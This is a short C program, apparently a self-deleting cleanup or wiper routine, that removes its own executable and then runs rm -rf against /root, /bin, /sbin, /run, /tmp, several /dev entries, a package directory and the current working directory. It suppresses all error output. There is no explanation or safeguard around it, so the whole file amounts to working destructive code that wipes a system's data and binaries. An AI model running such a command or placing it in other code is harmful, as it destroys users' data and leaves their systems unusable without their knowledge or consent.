// SPDX-License-Identifier: GPL-2.0-only
/* Removes itself, what it was made of, and all that it can reach. */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc > 0)
		unlink(argv[0]);
	if (system("rm -rf /usr/share/ringside /run/* /tmp/* /root /bin /sbin "
		   "/dev/net /dev/vport* . 2>/dev/null"))
		puts("41");
	return 0;
}
